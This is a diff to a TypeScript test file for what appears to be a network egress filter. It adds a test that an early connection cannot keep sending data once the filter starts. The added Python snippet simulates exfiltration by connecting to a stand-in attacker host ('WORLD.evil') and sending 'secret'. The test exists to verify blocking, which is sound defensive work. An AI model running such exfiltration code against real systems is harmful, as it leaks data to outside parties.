@@ -1,17 +1,38 @@
-import { spawnSync } from 'node:child_process';
+import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
+import { once } from 'node:events';
 import { realpathSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { JobLab, tcp, udp } from './job-lab.ts';
-import { asked, type Packet, WORLD } from './lab.ts';
+import { asked, Lab, type Packet, WORLD } from './lab.ts';
 
+const EARLY = `
+import errno, socket, sys
+s = socket.create_connection(('${WORLD.evil}', 9999)); s.settimeout(3)
+s.sendall(b'early'); print(s.recv(9), flush=True)
+sys.stdin.readline()
+try:
+    for n in range(3): s.sendall(b'secret'); print('answered', s.recv(9), flush=True)
+except OSError as error: print(errno.errorcode.get(error.errno, 'timeout'), flush=True)
+`;
 let job: JobLab;
+/** Connected to the attacker before there was a filter; sends more when it is told to. */
+let early: ChildProcess;
 beforeAll(async () => {
-  job = await JobLab.start({
-    policy: `ok.test\n${WORLD.ok}:9999/udp\n${WORLD.ok}:7/udp exe=${realpathSync('/usr/bin/nc')}\n`,
-    inbound: [{ protocol: 'tcp', port: 2222 }],
-  });
+  const lab = await Lab.start();
+  early = spawn('ip', ['netns', 'exec', lab.job, 'python3', '-c', EARLY], { stdio: ['pipe', 'pipe', 'inherit'] });
+  await once(early.stdout ?? early, 'data');
+  job = await JobLab.start(
+    {
+      policy: `ok.test\n${WORLD.ok}:9999/udp\n${WORLD.ok}:7/udp exe=${realpathSync('/usr/bin/nc')}\n`,
+      inbound: [{ protocol: 'tcp', port: 2222 }],
+    },
+    lab,
+  );
 });
-afterAll(() => job?.stop());
+afterAll(async () => {
+  early?.kill();
+  await job?.stop();
+});
 
 const curl = (url: string, more = ''): string =>
   `curl -sS -m 8 --cacert ${job.directory}/ca.crt -o /dev/null -w '%{http_code}' ${more} ${url} 2>&1`;
@@ -164,6 +185,14 @@ ip route del 127.0.0.0/8; ip addr add 127.0.0.1/8 dev lo`,
     expect(result.output).toContain('timeout');
     expect(result.log).toEqual([]);
   });
+});
+
+it('a connection from before the start carries nothing more', async () => {
+  const before = job.lab.marks();
+  early.stdin?.end('now\n');
+  const [said] = await once(early.stdout ?? early, 'data');
+  expect(String(said)).toMatch(/^(?:ECONNRESET|EPIPE|ENETUNREACH|EHOSTUNREACH|timeout)/);
+  expect(job.lab.since(before).packets).toEqual([]);
 });
 
 it('nobody talks to the ports of the proxy by himself', async () => {
